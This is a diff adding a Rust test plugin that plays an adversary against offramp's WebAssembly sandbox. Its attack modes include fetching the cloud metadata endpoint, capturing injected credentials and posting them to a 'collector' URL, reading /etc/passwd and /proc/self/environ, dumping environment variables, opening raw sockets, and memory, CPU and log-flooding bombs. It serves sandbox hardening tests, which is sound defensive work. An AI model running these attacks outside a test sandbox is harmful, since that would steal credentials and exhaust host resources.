@@ -1,0 +1,303 @@
+//! A hostile plugin. Each `attack:` tries one way out of offramp's sandbox and reports what it
+//! got: a step that *succeeds* means the attack worked (its output is the loot); a blocked
+//! attack fails the step with what stopped it. The host's tests expect every attack to fail.
+//!
+//! ```yaml
+//! - id: metadata
+//!   uses: adversary
+//!   with: { attack: fetch, url: "http://169.254.169.254/latest/meta-data/" }
+//!   allow: ["http://169.254.169.254"]
+//! ```
+
+use offramp_plugin_sdk::{
+    Guest, HttpError, Invocation, Level, Outcome, PluginInfo, Request, TaskError, changed, export_plugin, info, input,
+    log, permanent,
+};
+use serde::Deserialize;
+use serde_json::json;
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Input {
+    attack: String,
+    /// fetch, wasi_fetch, follow_redirect, steal_credential: where to go.
+    #[serde(default)]
+    url: Option<String>,
+    /// steal_credential: where to send what was captured.
+    #[serde(default)]
+    collector: Option<String>,
+    /// sockets: `ip:port` to connect to.
+    #[serde(default)]
+    addr: Option<String>,
+    /// huge_output: MiB of output.
+    #[serde(default)]
+    mb: Option<u32>,
+}
+
+struct Adversary;
+
+fn blocked(what: impl Into<String>) -> TaskError {
+    permanent(format!("blocked: {}", what.into()))
+}
+
+fn http_text(e: &HttpError) -> String {
+    format!("{e:?}")
+}
+
+impl Guest for Adversary {
+    fn run(inv: Invocation) -> Result<Outcome, TaskError> {
+        let input: Input = input(&inv)?;
+        let url = || input.url.clone().ok_or_else(|| permanent("this attack needs `url`"));
+        match input.attack.as_str() {
+            "spin" => {
+                let mut x: u64 = 0;
+                loop {
+                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
+                }
+            }
+            "memory_bomb" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    let mut chunk = vec![0u8; 1 << 20];
+                    chunk[0] = 1;
+                    chunk[(1 << 20) - 1] = 1;
+                    hoard.push(std::hint::black_box(chunk));
+                }
+            }
+            "recursion" => {
+                let depth = recurse(std::hint::black_box(1));
+                changed(&json!({ "depth": depth }))
+            }
+            "fetch" => match Request::get(url()?).send() {
+                Ok(resp) => changed(&json!({ "status": resp.status(), "body": resp.text() })),
+                Err(e) => Err(blocked(http_text(&e))),
+            },
+            "wasi_fetch" => match wasi_http_get(&url()?) {
+                Ok((status, body)) => changed(&json!({ "status": status, "body": body })),
+                Err(e) => Err(blocked(e)),
+            },
+            "follow_redirect" => {
+                let first = Request::get(url()?).send().map_err(|e| blocked(http_text(&e)))?;
+                let Some(location) = first.header("location").map(str::to_string) else {
+                    return Err(permanent(format!("no redirect (status {})", first.status())));
+                };
+                log(Level::Info, &format!("following the redirect to {location}"));
+                match Request::get(location).send() {
+                    Ok(resp) => changed(&json!({ "status": resp.status(), "body": resp.text() })),
+                    Err(e) => Err(blocked(http_text(&e))),
+                }
+            }
+            "steal_credential" => {
+                // Ask the credential host to echo our request back, with a header of our own
+                // that would override the injected one if the host let it through.
+                let echoed = Request::get(url()?)
+                    .header("authorization", "Bearer adversary")
+                    .header("x-api-key", "adversary")
+                    .send()
+                    .map_err(|e| blocked(http_text(&e)))?
+                    .text();
+                log(Level::Info, &format!("the echo said: {echoed}"));
+                println!("echo: {echoed}");
+                let collector = input.collector.clone().ok_or_else(|| permanent("needs `collector`"))?;
+                let sent = Request::post(collector).header("x-loot", &echoed).body(echoed.clone().into_bytes()).send();
+                Err(permanent(format!(
+                    "captured {echoed}; exfiltration {}",
+                    match sent {
+                        Ok(r) => format!("answered {}", r.status()),
+                        Err(e) => http_text(&e),
+                    }
+                )))
+            }
+            "env" => {
+                let vars: Vec<(String, String)> = std::env::vars().collect();
+                let args: Vec<String> = std::env::args().collect();
+                let cwd = std::env::current_dir().map(|p| p.display().to_string()).unwrap_or_default();
+                if vars.is_empty() && args.is_empty() {
+                    Err(blocked(format!("0 environment variables, 0 arguments, cwd `{cwd}`")))
+                } else {
+                    changed(&json!({ "vars": vars, "args": args }))
+                }
+            }
+            "files" => {
+                let mut got = Vec::new();
+                let mut errors = Vec::new();
+                for path in ["/etc/passwd", "/proc/self/environ", "/", ".", "../.."] {
+                    match std::fs::read(path) {
+                        Ok(bytes) => got.push(format!("{path}: {} bytes", bytes.len())),
+                        Err(e) => errors.push(format!("{path}: {e}")),
+                    }
+                    if let Ok(dir) = std::fs::read_dir(path) {
+                        got.push(format!("{path}: {} entries", dir.count()));
+                    }
+                }
+                if got.is_empty() { Err(blocked(errors.join("; "))) } else { changed(&json!({ "read": got })) }
+            }
+            "clock" => {
+                use wasi::clocks::{monotonic_clock, wall_clock};
+                let wall = wall_clock::resolution();
+                let mono = monotonic_clock::resolution();
+                let a = monotonic_clock::now();
+                let b = monotonic_clock::now();
+                let fine = mono < 1_000_000 || (wall.seconds == 0 && wall.nanoseconds < 1_000_000_000);
+                let seen = format!(
+                    "wall clock resolution {}s{}ns, monotonic resolution {mono}ns, two reads {}ns apart",
+                    wall.seconds,
+                    wall.nanoseconds,
+                    b.saturating_sub(a)
+                );
+                if fine { changed(&json!({ "clock": seen })) } else { Err(blocked(seen)) }
+            }
+            "sockets" => {
+                let addr = input.addr.clone().unwrap_or_else(|| "127.0.0.1:80".into());
+                let mut errors = Vec::new();
+                match tcp_connect(&addr) {
+                    Ok(()) => return changed(&json!({ "tcp": addr })),
+                    Err(e) => errors.push(format!("tcp {addr}: {e}")),
+                }
+                match udp_send(&addr) {
+                    Ok(()) => return changed(&json!({ "udp": addr })),
+                    Err(e) => errors.push(format!("udp {addr}: {e}")),
+                }
+                match lookup("localhost") {
+                    Ok(found) => return changed(&json!({ "dns": found })),
+                    Err(e) => errors.push(format!("dns: {e}")),
+                }
+                Err(blocked(errors.join("; ")))
+            }
+            "huge_output" => {
+                let mb = input.mb.unwrap_or(16) as usize;
+                changed(&json!({ "blob": "x".repeat(mb << 20) }))
+            }
+            "flood_logs" => {
+                let line = "y".repeat(1000);
+                for _ in 0..20_000 {
+                    println!("{line}");
+                    eprintln!("{line}");
+                }
+                for i in 0..20_000 {
+                    log(Level::Info, &format!("log line {i} {line}"));
+                }
+                Err(permanent("flooded stdout, stderr and the log"))
+            }
+            "panic" => panic!("the adversary panics on purpose"),
+            other => Err(permanent(format!("unknown attack {other:?}"))),
+        }
+    }
+
+    fn describe() -> PluginInfo {
+        info(
+            "adversary",
+            env!("CARGO_PKG_VERSION"),
+            "A hostile plugin for sandbox tests: every attack should fail",
+            &[
+                ("attack", "string", true, "which attack"),
+                ("url", "string", false, "where network attacks go"),
+                ("collector", "string", false, "steal_credential: where the loot goes"),
+                ("addr", "string", false, "sockets: ip:port"),
+                ("mb", "integer", false, "huge_output: MiB"),
+            ],
+        )
+    }
+}
+
+#[inline(never)]
+fn recurse(n: u64) -> u64 {
+    if n == u64::MAX {
+        return n;
+    }
+    let pad = std::hint::black_box([n; 64]);
+    recurse(std::hint::black_box(n + 1)) + pad[(n % 64) as usize]
+}
+
+fn parse_addr(addr: &str) -> Result<(u16, (u8, u8, u8, u8)), String> {
+    let (ip, port) = addr.rsplit_once(':').ok_or("addr is ip:port")?;
+    let ip: std::net::Ipv4Addr = ip.parse().map_err(|_| "bad ip")?;
+    let port: u16 = port.parse().map_err(|_| "bad port")?;
+    let [a, b, c, d] = ip.octets();
+    Ok((port, (a, b, c, d)))
+}
+
+fn tcp_connect(addr: &str) -> Result<(), String> {
+    use wasi::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
+    use wasi::sockets::{instance_network::instance_network, tcp_create_socket::create_tcp_socket};
+    let (port, address) = parse_addr(addr)?;
+    let network = instance_network();
+    let socket = create_tcp_socket(IpAddressFamily::Ipv4).map_err(|e| format!("{e:?}"))?;
+    socket
+        .start_connect(&network, IpSocketAddress::Ipv4(Ipv4SocketAddress { port, address }))
+        .map_err(|e| format!("{e:?}"))?;
+    socket.subscribe().block();
+    socket.finish_connect().map(|_| ()).map_err(|e| format!("{e:?}"))
+}
+
+fn udp_send(addr: &str) -> Result<(), String> {
+    use wasi::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
+    use wasi::sockets::{instance_network::instance_network, udp_create_socket::create_udp_socket};
+    let (port, address) = parse_addr(addr)?;
+    let network = instance_network();
+    let socket = create_udp_socket(IpAddressFamily::Ipv4).map_err(|e| format!("{e:?}"))?;
+    let local = IpSocketAddress::Ipv4(Ipv4SocketAddress { port: 0, address: (0, 0, 0, 0) });
+    socket.start_bind(&network, local).map_err(|e| format!("{e:?}"))?;
+    socket.subscribe().block();
+    socket.finish_bind().map_err(|e| format!("{e:?}"))?;
+    let remote = IpSocketAddress::Ipv4(Ipv4SocketAddress { port, address });
+    socket.stream(Some(remote)).map(|_| ()).map_err(|e| format!("{e:?}"))
+}
+
+fn lookup(name: &str) -> Result<Vec<String>, String> {
+    use wasi::sockets::{instance_network::instance_network, ip_name_lookup::resolve_addresses};
+    let network = instance_network();
+    let stream = resolve_addresses(&network, name).map_err(|e| format!("{e:?}"))?;
+    let mut found = Vec::new();
+    loop {
+        match stream.resolve_next_address() {
+            Ok(Some(a)) => found.push(format!("{a:?}")),
+            Ok(None) => return Ok(found),
+            Err(wasi::sockets::network::ErrorCode::WouldBlock) => stream.subscribe().block(),
+            Err(e) => return Err(format!("{e:?}")),
+        }
+    }
+}
+
+/// A GET through `wasi:http/outgoing-handler`.
+fn wasi_http_get(url: &str) -> Result<(u16, String), String> {
+    use wasi::http::outgoing_handler;
+    use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
+    use wasi::io::streams::StreamError;
+
+    let (scheme, rest) = url.split_once("://").ok_or("URL without a scheme")?;
+    let (authority, path) = match rest.find('/') {
+        Some(i) => (&rest[..i], &rest[i..]),
+        None => (rest, "/"),
+    };
+    let request = OutgoingRequest::new(Fields::new());
+    let scheme = if scheme == "https" { Scheme::Https } else { Scheme::Http };
+    request.set_method(&Method::Get).map_err(|()| "bad method")?;
+    request.set_scheme(Some(&scheme)).map_err(|()| "bad scheme")?;
+    request.set_authority(Some(authority)).map_err(|()| "bad authority")?;
+    request.set_path_with_query(Some(path)).map_err(|()| "bad path")?;
+    let body = request.body().map_err(|()| "no body")?;
+    let future = outgoing_handler::handle(request, None).map_err(|e| format!("wasi:http refused: {e:?}"))?;
+    OutgoingBody::finish(body, None).map_err(|e| format!("finishing the body: {e:?}"))?;
+    future.subscribe().block();
+    let response = future
+        .get()
+        .ok_or("no response")?
+        .map_err(|()| "response taken twice")?
+        .map_err(|e| format!("wasi:http error: {e:?}"))?;
+    let status = response.status();
+    let incoming = response.consume().map_err(|()| "no body")?;
+    let stream = incoming.stream().map_err(|()| "no body stream")?;
+    let mut bytes = Vec::new();
+    loop {
+        match stream.blocking_read(64 * 1024) {
+            Ok(chunk) => bytes.extend_from_slice(&chunk),
+            Err(StreamError::Closed) => break,
+            Err(e) => return Err(format!("reading the body: {e:?}")),
+        }
+    }
+    drop(stream);
+    Ok((status, String::from_utf8_lossy(&bytes).into_owned()))
+}
+
+export_plugin!(Adversary);
